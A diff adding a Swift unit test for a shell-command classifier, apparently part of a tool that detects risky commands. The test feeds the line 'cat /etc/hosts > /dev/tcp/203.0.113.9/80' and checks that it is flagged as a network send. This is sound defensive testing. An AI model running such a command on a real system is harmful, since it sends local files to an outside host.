@@ -5,6 +5,14 @@ import Testing
 @Suite struct ShellClassifierTests {
     let classifier = ShellClassifier(fileSystem: FixedFileSystem(files: ["/srv/app/config.yaml": "x"], directories: ["/srv", "/srv/app"]))
 
+    /// bash's `/dev/tcp/HOST/PORT` is a connection, not a file: what is printed into it is sent.
+    @Test func devTcpRedirectionsSendOverTheNetwork() {
+        let facts = classifier.classify(commandLine: "cat /etc/hosts > /dev/tcp/203.0.113.9/80")
+        let send = facts.findings.first { $0.operation == "shell:network_send" }
+        #expect(send?.targets == ["tcp://203.0.113.9:80"] && send?.effect == .write, "\(facts.findings)")
+        #expect(!facts.operations.contains("shell:redirect"))
+    }
+
     /// `cd NAME` looks NAME up on a `CDPATH` the line set before the working directory.
     @Test func cdFollowsCDPATH() {
         let classifier = ShellClassifier(fileSystem: FixedFileSystem(files: [:], directories: ["/srv", "/srv/app", "/home/dev", "/home/dev/app"]))
